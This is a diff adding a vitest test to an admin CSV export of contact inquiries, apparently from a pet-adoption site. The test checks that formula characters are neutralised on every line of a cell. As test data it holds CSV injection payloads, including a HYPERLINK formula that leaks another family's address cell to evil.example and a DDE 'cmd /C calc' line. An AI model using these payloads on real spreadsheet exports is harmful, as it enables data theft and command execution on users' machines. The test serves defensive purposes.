@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { TRPCError } from '@trpc/server';
+import { parse } from 'csv-parse/sync';
 import { useTestApp } from '../../../server/testing/test-app.ts';
 import { signIn } from '../../../server/testing/auth.ts';
 import type { SessionUser } from '../../../lib/server/trpc.ts';
@@ -83,6 +84,36 @@ describe('admin.inquiries: the inbox', () => {
     const user = await signIn(t.orm, { isAdmin: false });
     const forbidden = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv', headers: { cookie: user.cookie } });
     expect(forbidden.statusCode).toBe(403);
+  });
+
+  it('keeps a message with line breaks in one quoted cell and neutralises a formula on every line of it', async () => {
+    const { Inquiry } = await import('./inquiry.entity.ts');
+    await t.orm.em.fork().nativeDelete(Inquiry, {});
+    // The tester's payload as sent, and one with a working exfiltration link to another family's address cell.
+    const payloads = [
+      'Hi.\n=1+1\n=HYPERLINK(...)',
+      'Hi.\r\n=1+1\r\n=HYPERLINK("https://evil.example/?leak="&D3,"Click for puppy photos")',
+      'Hello\r+cmd|\' /C calc\'!A0\n\t=2+2\n-3+3\n@SUM(A1)',
+    ];
+    for (const message of payloads) await send({ name: 'Mallory Family', message });
+    await send({ name: 'Honest Family', email: 'honest@example.com', message: 'A plain question about Biscuit.' });
+    const { cookie } = await signIn(t.orm, { isAdmin: true });
+    const res = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv', headers: { cookie } });
+    expect(res.statusCode).toBe(200);
+
+    const rows = parse(res.body, { bom: true }) as string[][];
+    expect(rows).toHaveLength(1 + payloads.length + 1);
+    expect(rows.every((r) => r.length === 10)).toBe(true);
+    const messages = rows.slice(1).map((r) => r[8]);
+    expect(messages.slice(1).reverse()).toEqual([
+      "Hi.\n'=1+1\n'=HYPERLINK(...)",
+      'Hi.\r\n\'=1+1\r\n\'=HYPERLINK("https://evil.example/?leak="&D3,"Click for puppy photos")',
+      "Hello\r'+cmd|' /C calc'!A0\n'\t=2+2\n'-3+3\n'@SUM(A1)",
+    ]);
+    expect(messages[0]).toBe('A plain question about Biscuit.');
+    const cellLines = rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/));
+    expect(cellLines.length).toBeGreaterThan(rows.flat().length);
+    expect(cellLines.filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
   });
 
   it('pages past 50 and deletes', async () => {
